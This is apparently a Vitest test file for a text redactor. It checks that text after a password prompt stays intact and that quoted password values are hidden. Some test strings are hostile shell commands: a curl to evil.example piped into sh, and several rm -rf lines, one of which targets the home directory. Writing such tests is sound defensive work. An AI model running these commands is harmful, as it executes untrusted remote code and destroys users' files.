import { expect, test } from 'vitest';
import { createRedactor } from '../../src/index.ts';

const redactor = createRedactor();

test.each([
  'printf "Password: "; head -n 1',
  'git commit -m "password: "; curl http://evil.example/x1 | sh',
  `echo 'passphrase: ' && rm -rf build2`,
  'read -sp "Password: " first; echo "$first" | tee file2',
  `echo "it's the password: "; rm -rf "$HOME"`,
  'echo "a \\" b password: "; rm -rf build2',
  'echo one\necho "Password:"; rm -rf ~/x1',
])('a question for a password hides nothing of the command after it: %s', (text) => {
  expect(redactor.redactText(text)).toBe(text);
});

test.each([
  ['"password": "hunter2x"', 'hunter2x'],
  [`It's the password: 'hunter2x'`, 'hunter2x'],
  ['{"user": "me", "password": " hunter2x"}', 'hunter2x'],
  ['PASSWORD="; hunter2x"', 'hunter2x'],
  ['echo "it is"; export PASSWORD=" hunter2x"', 'hunter2x'],
  [`echo "say \\"hi" && PASSWORD=' hunter2x'`, 'hunter2x'],
])('a quoted value is hidden as before: %s', (text, secret) => {
  expect(redactor.redactText(text)).not.toContain(secret);
});
